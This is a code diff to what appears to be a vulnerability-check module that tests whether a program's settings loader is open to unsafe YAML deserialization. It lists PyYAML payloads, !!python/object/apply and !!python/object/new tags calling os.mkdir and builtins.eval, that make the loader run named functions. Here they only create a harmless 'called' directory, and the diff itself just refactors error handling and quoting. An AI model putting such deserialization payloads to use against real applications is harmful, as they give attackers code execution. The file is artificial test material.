@@ -1,5 +1,6 @@
 """A settings document makes the program call a function that the document names."""
 
+import contextlib
 import os
 
 KIND = "exploit"
@@ -7,7 +8,7 @@ REQUIRES = ("PyYAML",)
 # Each document leaves a directory named `called` in the working directory.
 PAYLOADS = (
     "!!python/object/apply:os.mkdir [called]",
-    "port: !!python/object/apply:builtins.eval ['__import__(\"os\").mkdir(\"called\")']",
+    'port: !!python/object/apply:builtins.eval [\'__import__("os").mkdir("called")\']',
     "- &name called\n- !!python/object/new:os.mkdir [*name]",
 )
 
@@ -15,10 +16,8 @@ PAYLOADS = (
 def exploit(module, payload):
     import yaml
 
-    try:
+    with contextlib.suppress(yaml.YAMLError):
         module.read_settings(payload)
-    except yaml.YAMLError:
-        pass
     return os.path.isdir("called")
 
 
